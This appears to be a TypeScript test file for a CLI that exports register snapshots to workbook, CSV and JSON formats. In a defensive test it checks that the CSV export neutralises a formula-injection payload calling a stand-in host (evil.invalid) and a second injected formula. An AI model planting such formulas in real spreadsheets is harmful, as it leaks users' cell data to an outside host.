import { existsSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import readSheets, { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runMuster } from '../../support/appServer.ts';
import { throwAwayDirectory } from '../../support/throwAwayDirectory.ts';

let folder: string;
const file = (name: string): string => join(folder, name);
const onData = (...args: string[]) => runMuster([...args, '--data', file('data')]);
const exported = (...args: string[]) => runMuster(['snapshot', 'export', ...args]);
const QUIET = { code: 0, stderr: '' };

const FORMULA = '=HYPERLINK("http://evil.invalid/"&A1)';

beforeAll(async () => {
  folder = throwAwayDirectory();
  const names = ['svc-pay', FORMULA, '+1;=2', 'svc-mail'];
  const rows = names.map((name, index) => `"${name.replaceAll('"', '""')}",ad,${index === 0 ? 'Payments' : ''},"does ${index}"`);
  writeFileSync(file('accounts.csv'), `Account,System,Owner,Purpose\n${rows.join('\n')}\n`);
  expect((await onData('import', file('accounts.csv'))).code).toBe(0);
  expect((await onData('set', 'svc-mail', 'owner=Platform', '--why', 'they run it')).code).toBe(0);
  const made = await onData('snapshot', 'create', '-o', file('all.muster'), '--sample', '2', '--seed', 'seed');
  expect(made).toMatchObject(QUIET);
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

describe('[SNP67] [SNP69] muster snapshot export', () => {
  it('writes a workbook with a sheet for each table, and what they are of first', async () => {
    const { stdout, ...how } = await exported(file('all.muster'), '-o', file('all.xlsx'));
    expect(how).toEqual(QUIET);
    expect(stdout).toContain('Register: 4');
    expect(stdout).toContain('Sample: 2');
    expect(statSync(file('all.xlsx')).mode & 0o777).toBe(0o600);
    const sheets = await readSheets(readFileSync(file('all.xlsx')));
    expect(sheets.map(({ sheet }) => sheet)).toEqual([
      'About',
      'Register',
      'Sample',
      'Findings',
      'Gaps',
      'Sources and coverage',
      'Changes',
      'People and devices',
    ]);
    const about = new Map(sheets[0]?.data.map(([what, value]) => [what, value]));
    expect(about.get('Population: rows')).toBe(4);
    expect(about.get('Random sample: seed')).toBe('seed');
  });

  it('says who set an owner, when, why and in which change', async () => {
    expect(await exported(file('all.muster'), '-o', file('register.ndjson'))).toMatchObject(QUIET);
    const rows = readFileSync(file('register.ndjson'), 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rows.find(({ name }) => name === 'svc-mail')).toMatchObject({
      owner: 'Platform',
      ownerSetByKind: 'person',
      ownerReason: 'they run it',
      ownerChange: expect.any(Number),
    });
  });
});

describe('[SNP60] [SNP61] a hostile name stays text', () => {
  it('in CSV it is marked, in a workbook and JSON it is itself', async () => {
    for (const name of ['r.csv', 'r.json', 'r.xlsx'])
      expect(await exported(file('all.muster'), '-o', file(name), '--table', 'register')).toMatchObject(QUIET);
    const cells = (parse(readFileSync(file('r.csv')), { bom: true }) as string[][]).flat();
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).toContain("'+1;'=2");
    expect(cells.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
    const { rows } = JSON.parse(readFileSync(file('r.json'), 'utf8')) as { rows: { name: string }[] };
    expect(rows.map(({ name }) => name)).toContain(FORMULA);
    const names = (await readSheet(readFileSync(file('r.xlsx')), 'Register')).map((row) => row[1]);
    expect(names).toContain(FORMULA);
  });
});

describe('[SNP36] a snapshot that does not hold gives no table', () => {
  it('a changed byte, another key, a missing file or an unknown ending', async () => {
    const bytes = readFileSync(file('all.muster'));
    bytes[bytes.length >> 1] = (bytes[bytes.length >> 1] as number) ^ 1;
    writeFileSync(file('bad.muster'), bytes);
    const tries: readonly (readonly [number, ...string[]])[] = [
      [1, file('bad.muster'), '-o', file('no.xlsx')],
      [1, file('all.muster'), '-o', file('no.xlsx'), '--key', 'f'.repeat(32)],
      [2, file('all.muster'), '-o', file('no.xlsx'), '--key', 'f'],
      [2, file('none.muster'), '-o', file('no.xlsx')],
      [2, file('all.muster'), '-o', file('no.pdf')],
      [2, file('all.muster'), '-o', file('no.xlsx'), '--table', 'nothing'],
    ];
    for (const [wanted, ...args] of tries) {
      const { code, stderr } = await exported(...args);
      expect([code, stderr.trim().split('\n').length], args.join(' ')).toEqual([wanted, 1]);
    }
    expect(existsSync(file('no.xlsx')) || existsSync(file('no.pdf'))).toBe(false);
  });

  it('a former file stays as it was', async () => {
    writeFileSync(file('kept.csv'), 'kept');
    expect((await exported(file('bad.muster'), '-o', file('kept.csv'))).code).toBe(1);
    expect(readFileSync(file('kept.csv'), 'utf8')).toBe('kept');
  });
});
